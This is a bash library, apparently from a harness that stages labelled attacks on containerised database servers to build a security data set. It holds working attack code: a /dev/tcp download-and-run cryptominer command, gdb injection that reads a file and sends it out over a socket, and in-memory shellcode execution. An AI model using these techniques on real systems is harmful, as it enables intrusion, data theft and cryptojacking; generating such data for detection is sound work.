# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# What the database servers of the data set share: values by seed, and what attackers bring. Sourced by
# their service files.

# shellcheck disable=SC2034,SC2154 # lib.bash and attacks.bash read variables of this file, and set others
filler_text='the-quick-brown-fox-jumps-over-the-lazy-dog-0123456789-times.'

# filler BYTES: sets filler_value to a text of that length.
filler() {
	while [ "${#filler_text}" -lt $(($1 + 100)) ]; do
		filler_text+=$filler_text
	done
	filler_value=${filler_text:RANDOM % 100:$1}
}

# likely PERCENT: true so often. It draws from RANDOM, as generated() makes it.
likely() {
	[ $((RANDOM % 100)) -lt "$1" ]
}

# generated NUMBER FUNCTION…: what a function prints that draws from RANDOM, in a subshell or not: equal
# numbers give equal texts.
generated() {
	RANDOM=$1
	shift
	"$@"
}

# payload_library: compiles the library that attackers load into a server, and prints its path.
payload_library() {
	payload_make payload "$stage/payload.so" && echo "$stage/payload.so"
}

# file_offered FILE: port 8888 of the peers' address gives the file to whoever connects.
file_offered() {
	peer_exec python3 -c 'import socket, sys
data = sys.stdin.buffer.read()
with socket.create_server((sys.argv[1], 8888)) as server:
    while True:
        with server.accept()[0] as client:
            client.sendall(data)' "$peer_address" <"$1" >/dev/null 2>&1 &
	children[$!]=1
	until_true "$patience" port_listens 8888
}

# mining_begin PATH: the miner is to be had and its pool is there. Sets mining_command: a shell of a container
# that has bash drops the miner at PATH, and starts it.
mining_begin() {
	pool_begin
	file_offered "$miner"
	mining_command="bash -c 'cat </dev/tcp/$peer_address/8888 >$1; chmod 755 $1; "
	mining_command+="$1 $peer_address 3333 5 >/dev/null 2>&1 &'"
	harm open "$1"
	harm exec "$1"
	harm connect "$peer_address:8888"
	harm connect "$peer_address:3333"
}

# as_hex FILE: its bytes in hexadecimal, in one line.
as_hex() {
	od -An -v -tx1 "$1" | tr -d ' \n'
}

# code_inside CONTAINER PATTERN EXPRESSION…: inject() of several expressions of gdb.
code_inside() {
	local c=$1 pattern=$2
	shift 2
	inject_pid "$(tasks_named "$c" "$pattern" | head -n 1)" "$@"
}

# code_steal CONTAINER PATTERN FILE: code inside a process opens a file and sends its beginning to the thief.
# 42 is connect: gdb cannot convert the argument of the C library's function.
code_steal() {
	# shellcheck disable=SC2016 # variables of gdb
	code_inside "$1" "$2" 'set $b = (char *) malloc(4096)' \
		"set \$f = (int) open(\"$3\", 0)" 'set $n = (long) read($f, $b, 4000)' 'call (int) close($f)' \
		'set *(unsigned long long *) ($b + 4000) = 0x0100580a5c110002' 'set *(long long *) ($b + 4008) = 0' \
		'set $s = (int) socket(2, 1, 0)' 'call (long) syscall(42, $s, $b + 4000, 16)' \
		'call (long) write($s, $b, $n)' 'call (int) close($s)'
}

# code_machine CONTAINER PATTERN: machine code in memory that is made executable, and run: it returns 42.
code_machine() {
	# shellcheck disable=SC2016 # variables of gdb
	code_inside "$1" "$2" 'set $p = (char *) mmap(0, 4096, 3, 0x22, -1, 0)' \
		'set *(unsigned *) $p = 0x00002ab8' 'set *(unsigned short *) ($p + 4) = 0xc300' \
		'call (int) mprotect($p, 4096, 5)' 'print ((int (*)(void)) $p)()'
}
